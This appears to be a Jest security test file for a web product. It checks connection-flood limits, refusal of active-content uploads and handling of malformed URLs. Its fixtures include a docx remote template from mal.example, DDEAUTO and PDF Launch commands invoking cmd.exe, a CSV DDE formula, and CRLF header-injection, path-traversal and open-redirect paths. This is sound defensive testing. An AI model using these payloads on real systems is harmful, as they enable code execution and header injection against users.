import { connect, type Socket } from 'node:net';
import { text } from 'node:stream/consumers';
import { afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import { Person } from '@passerelle/accounts';
import { sessionOf } from '@passerelle/accounts/testing';
import { aConcept } from '@passerelle/concepts/testing';
import { Settings } from '@passerelle/config';
import { anOfficeDocument, aPdf } from '@passerelle/files/testing';
import type { GraphqlClient } from '@passerelle/graphql/testing';
import { aCompany, ask, aSubmittedNeed, fallsAtNight, publishNeed } from '@passerelle/harness/journey';
import { bootProduct } from '@passerelle/harness/product';
import { serveHealth } from '../../apps/server/src/serve-health.js';

/*
 * What clients could do with connections, addresses, files and links. The rules themselves have specs next to their
 * sources.
 */

describe('silent connections', () => {
  // Connections from this machine would count as those of a trusted proxy.
  const product = bootProduct({
    worker: false,
    env: () => ({ TRUST_PROXY: '10.0.0.0/8' }),
    limits: { connections: 300, headers: 1_500, checks: 100 },
  });
  const sockets: Socket[] = [];
  afterEach(() => {
    for (const socket of sockets.splice(0)) socket.destroy();
  });
  const port = (): number => Number(new URL(product.url).port);

  /** Connects from an address, and sends nothing. */
  async function silent(localAddress: string, to = port()): Promise<Socket> {
    const socket = connect({ port: to, host: '127.0.0.1', localAddress });
    sockets.push(socket);
    // Without a reader, the end would stay unnoticed.
    socket.resume();
    // A reset during the connection or a transfer.
    socket.on('error', () => undefined);
    await new Promise((resolve) => socket.once('connect', resolve).once('close', resolve));
    return socket;
  }
  const ended = async (socket: Socket): Promise<void> => {
    if (!socket.closed) await new Promise((resolve) => socket.once('close', resolve));
  };
  /** The status of an answer to a client at an address. */
  async function statusFor(localAddress: string, to = port()): Promise<string> {
    const socket = await silent(localAddress, to);
    socket.write('GET /health/ready HTTP/1.0\r\n\r\n');
    let output = '';
    socket.on('data', (data) => (output += String(data)));
    await ended(socket);
    return output.slice(9, 12);
  }

  it('of one client shut out nobody else: it has a hundred', async () => {
    const crowd = await Promise.all(Array.from({ length: 1_000 }, () => silent('127.0.0.2')));
    expect(await statusFor('127.0.0.3')).toBe('200');
    expect(await statusFor('127.0.0.2')).toBe('');
    // The hundred admitted connections end by themselves, since they send nothing.
    await Promise.all(crowd.map(ended));
    expect(await statusFor('127.0.0.2')).toBe('200');
  });

  it('of many clients leave the port of health checks as it is, and it has a limit of its own', async () => {
    const settings = Object.assign(new Settings(), { healthPort: 0, host: '127.0.0.1' });
    const health = await serveHealth(product.app, settings);
    const healthPort = health?.port ?? 0;
    const crowd = await Promise.all(Array.from({ length: 400 }, (_, i) => silent(`127.0.1.${i % 200}`)));
    expect(await statusFor('127.0.0.3')).toBe('');
    expect(await statusFor('127.0.0.3', healthPort)).toBe('200');
    await Promise.all(Array.from({ length: 300 }, () => silent('127.0.0.2', healthPort)));
    expect(await statusFor('127.0.0.3', healthPort)).toBe('200');
    await health?.close();
    await Promise.all(crowd.map(ended));
  });
});

describe('on a product without an antivirus', () => {
  const product = bootProduct({ worker: false });
  let cookie: string;
  let conceptId: string;
  beforeAll(async () => {
    await product.as('lina@cfa.example');
    const { id } = await product.database.manager.findOneByOrFail(Person, { email: 'lina@cfa.example' });
    cookie = await sessionOf(product.app, id);
    ({ id: conceptId } = await aConcept(product.database, { carrierId: id, joined: [id] }));
  });
  const send = async (name: string, bytes: Buffer): Promise<{ status: number; message?: string }> => {
    const to = new URLSearchParams({ to: 'concept', id: conceptId, part: 'what_exists', name });
    const answer = await fetch(`${product.url}/api/files?${to.toString()}`, {
      method: 'POST',
      headers: { cookie, origin: product.url, 'content-type': 'application/octet-stream' },
      body: new Uint8Array(bytes),
    });
    return { status: answer.status, ...((await answer.json()) as { message?: string }) };
  };

  it('evidence that acts is refused, with what to send instead', async () => {
    const template = `<Relationships><Relationship Type="x/attachedTemplate" Target="https://mal.example/t.dotm" TargetMode="External"/></Relationships>`;
    const acting: [name: string, bytes: Buffer][] = [
      ['devis.docx', anOfficeDocument('docx', { parts: { 'word/_rels/settings.xml.rels': template } })],
      [
        'devis.docx',
        anOfficeDocument('docx', {
          parts: { 'word/document.xml': '<w:instrText>DDEAUTO cmd "/k"</w:instrText>' },
        }),
      ],
      ['devis.docx', anOfficeDocument('docx', { parts: { 'word/document.xml': '<w:altChunk r:id="a"/>' } })],
      ['devis.pdf', aPdf('x\n9 0 obj<</S/J#61vaScript/JS(x)>>endobj')],
      ['devis.pdf', aPdf('x\n9 0 obj<</S/Launch/F(cmd.exe)>>endobj')],
      ['devis.csv', Buffer.from("Prix;=cmd|'/C calc'!A0")],
    ];
    for (const [name, bytes] of acting) {
      const { status, message } = await send(name, bytes);
      expect([name, status, message]).toEqual([name, 400, expect.stringMatching(/PDF/)]);
    }
    expect(await send('prix.csv', Buffer.from('Prix;-5\nTél.;+33 6 12 34 56 78'))).toMatchObject({
      status: 201,
    });
  });

  it('a page can say beside a file that nobody has examined it', async () => {
    const lina = await product.as('lina@cfa.example');
    const { gates } = await ask<{ gates: { items: { evidence: { file: unknown }[] }[] }[] }>(
      lina,
      'query ($id: ID!) { concept(id: $id) { gates { items { evidence { file { name readiness scanned } } } } } }',
      { id: conceptId },
    );
    expect(gates.flatMap(({ items }) => items.flatMap(({ evidence }) => evidence))).toEqual([
      { file: { name: 'prix.csv', readiness: 'ready', scanned: false } },
    ]);
  });
});

describe('addresses', () => {
  const product = bootProduct({ worker: false });
  const odd = [
    '/%0d%0a',
    '/%0D%0Aset-cookie:%20x=1',
    '/accueil%0a',
    '/%00',
    '/%',
    '/%c3',
    '/%ff%fe',
    '/%ed%a0%80',
    '/besoins/%00',
    '/solutions/%0d%0a',
    '/assets/%00',
    '/assets/..%2f..%2fsecret',
    '/lien/%0d%0a?token=%0d%0a',
    '/lien/connexion?token=%00',
    '/fichiers/%0d%0a',
    '/graphql?query=%00',
    '/api/auth/%0d%0a',
    '/connexion?next=%0d%0aset-cookie:%20a=b',
    '//mal.example/%0d%0a',
    '/\\mal.example',
    '/?x=%',
    `/${'a'.repeat(9_000)}`,
  ];

  /** The head of the answer to a request as it stands. */
  const headOf = async (lines: string[], body = ''): Promise<string> => {
    const socket = connect({ port: Number(new URL(product.url).port), host: '127.0.0.1' });
    socket.write(
      `${[...lines, 'Host: 127.0.0.1', `Content-Length: ${body.length}`, 'Connection: close'].join('\r\n')}\r\n\r\n${body}`,
    );
    return (await text(socket)).split('\r\n\r\n')[0] ?? '';
  };

  it('that are odd are answered as what they are, with no header of their own', async () => {
    await product.as('lina@cfa.example');
    const { id } = await product.database.manager.findOneByOrFail(Person, { email: 'lina@cfa.example' });
    const cookies = ['', await sessionOf(product.app, id)];
    for (const path of odd)
      for (const accept of ['text/html', 'application/json'])
        for (const cookie of cookies)
          for (const method of ['GET', 'POST']) {
            const head = await headOf([
              `${method} ${path} HTTP/1.1`,
              `Accept: ${accept}`,
              `Cookie: ${cookie}`,
            ]);
            expect([method, path, head]).toEqual([
              method,
              path,
              expect.stringMatching(/^HTTP\/1\.1 [234]\d\d /),
            ]);
            expect(head).not.toMatch(/^set-cookie: (?:x=1|a=b)/im);
            // No redirect leads to another site.
            expect(/^location: (.*)$/im.exec(head)?.[1] ?? '/').toMatch(/^\/(?![/\\])/);
          }
  });

  it('that hold a secret reach no later request, and lead outside from no page', async () => {
    for (const path of ['connexion', 'invitation', 'profil', 'desinscription', 'ailleurs']) {
      const page = await fetch(`${product.url}/lien/${path}?token=zz`);
      // The origin alone, since a form without it would have no origin.
      expect([path, page.headers.get('referrer-policy')]).toEqual([path, 'strict-origin']);
      const outward = (await page.text()).replaceAll(product.url, '').match(/(?:href|src)="https?:/g);
      expect(outward).toBeNull();
    }
    const page = await fetch(product.url, { headers: { accept: 'text/html' } });
    expect(page.headers.get('referrer-policy')).toBe('same-origin');
  });
});

describe('a company that hides its name', () => {
  const product = bootProduct({ worker: false });

  it('is not found by moments: neither a date nor an id shows more than the day', async () => {
    const company = await aCompany(product, 'anne@mains.example', 'Les Mains Vertes');
    const curator = await product.as('nadia@ovlt.example', 'curator');
    const id = await aSubmittedNeed(company, { ...fallsAtNight, confidential: true });
    await publishNeed(curator, id);
    const zoe = await product.as('zoe@startup.example');
    const read = async (reader: GraphqlClient) => {
      const need = await ask<Record<string, string | null>>(
        reader,
        'query ($id: ID!) { need(id: $id) { submittedAt offeredAt organisation { id } } }',
        { id },
      );
      const { createdAt } = await ask<{ createdAt: string }>(
        reader,
        'query ($id: ID!) { organisation(id: $id) { createdAt } }',
        { id: company.id },
      );
      return { need, createdAt };
    };
    const isMidnight = (moment: number): boolean => moment % 86_400_000 === 0;
    const answer = await read(zoe);
    expect(answer.need).toEqual({ submittedAt: null, offeredAt: null, organisation: null });
    expect(isMidnight(Date.parse(answer.createdAt))).toBe(true);
    expect(isMidnight(Number.parseInt(company.id.replaceAll('-', '').slice(0, 12), 16))).toBe(true);
    const known = await read(curator);
    expect(known.need['submittedAt']).not.toBeNull();
    expect(isMidnight(Date.parse(known.createdAt))).toBe(false);
  });
});
